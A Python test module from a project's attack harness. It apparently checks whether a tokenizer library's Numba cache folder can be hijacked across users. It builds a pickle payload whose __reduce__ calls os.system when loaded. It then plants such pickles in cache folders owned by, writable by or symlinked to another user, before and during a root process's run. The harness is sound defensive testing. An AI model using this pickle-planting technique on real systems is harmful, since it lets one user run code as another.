"""Code of another user, by way of the cache folder. Needs root, to be two users."""

import os
import pickle
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

from tools.attack.arena import Arena, Case, Refused

OTHER = 12001
VICTIM = """
import sys
from anekdot.tokenizer.fast import scanner
print("ready", flush=True)
sys.stdin.readline()
scanner.is_other(1)
"""


class Payload:
    """What a pickle runs when it is read."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        """Runs a command at loading."""
        return os.system, (f"id -u > '{self.marker}'",)


def cache_names(arena: Arena) -> tuple[str, list[str]]:
    """Returns the name of the cache's folder, and of the indices that Numba puts there."""
    home = arena.room("home") / "cache"
    home.mkdir(mode=0o700)
    run_victim(home, lambda: None)
    folders = [path for path in (home / "anekdot").iterdir() if [*path.rglob("*.nbi")]]
    assert folders, "an honest cache was not written: the attack proves nothing"
    return folders[0].name, [str(p.relative_to(folders[0])) for p in folders[0].rglob("*.nbi")]


def run_victim(cache: Path, meanwhile: Callable[[], object]) -> None:
    """Lets root import and compile, and does something between the two."""
    victim = subprocess.Popen(
        [sys.executable, "-c", VICTIM], env={**os.environ, "XDG_CACHE_HOME": str(cache)},
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, encoding="utf-8",
    )  # fmt: skip
    assert victim.stdout is not None
    victim.stdout.readline()
    meanwhile()
    victim.communicate("\n", timeout=120)
    assert victim.returncode == 0


def plant(cache: Path, digest: str, names: list[str], marker: Path) -> None:
    """Puts folders of the other user, with pickles that run code, where the cache is."""
    folder = cache / "anekdot"
    if folder.exists() or folder.is_symlink():
        folder.rename(cache / "aside")
    for name in names:
        path = folder / digest / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(pickle.dumps(Payload(marker)))
    subprocess.run(["chown", "-R", f"{OTHER}:{OTHER}", str(folder)], check=True)


def swaps(arena: Arena) -> Iterator[Case]:
    """The cache is exchanged by whoever owns or may write a folder above it."""
    if os.geteuid() != 0:
        raise Refused("needs root, to be two users")

    def try_it(arrange: Callable[[Path], Path], is_early: bool) -> str | None:
        digest, names = cache_names(arena)
        room = arena.room("shared")
        marker = room / "ran"
        cache = arrange(room)
        swap = partial(plant, cache, digest, names, marker)
        if is_early:
            swap()
        run_victim(cache, (lambda: None) if is_early else swap)
        loss = f"ran as uid {marker.read_text().strip()}" if marker.exists() else None
        shutil.rmtree(room)
        return loss

    def owned(room: Path) -> Path:
        (room / ".cache").mkdir(0o755)
        os.chown(room / ".cache", OTHER, OTHER)
        return room / ".cache"

    def above_owned(room: Path) -> Path:
        os.chown(room, OTHER, OTHER)
        (room / ".cache").mkdir(0o700)
        return room / ".cache"

    def writable(room: Path) -> Path:
        (room / ".cache").mkdir()
        (room / ".cache").chmod(0o777)
        return room / ".cache"

    def group_writable(room: Path) -> Path:
        (room / ".cache").mkdir()
        (room / ".cache").chmod(0o775)
        os.chown(room / ".cache", 0, OTHER)
        return room / ".cache"

    def linked(room: Path) -> Path:
        (room / "theirs").mkdir(0o755)
        os.chown(room / "theirs", OTHER, OTHER)
        (room / ".cache").symlink_to("theirs")
        return room / ".cache"

    def theirs_linked(room: Path) -> Path:
        (room / "mid").mkdir(0o755)
        (room / "mine").mkdir(0o700)
        (room / "mid/.cache").symlink_to("../mine")
        os.chown(room / "mid", OTHER, OTHER)
        return room / "mid/.cache"

    for arrange in (owned, above_owned, writable, group_writable, linked, theirs_linked):
        for is_early in (True, False):
            when = "before the start" if is_early else "between import and use"
            yield f"{arrange.__name__}, {when}", partial(try_it, arrange, is_early)


ATTACKS = {"cache folder": swaps}
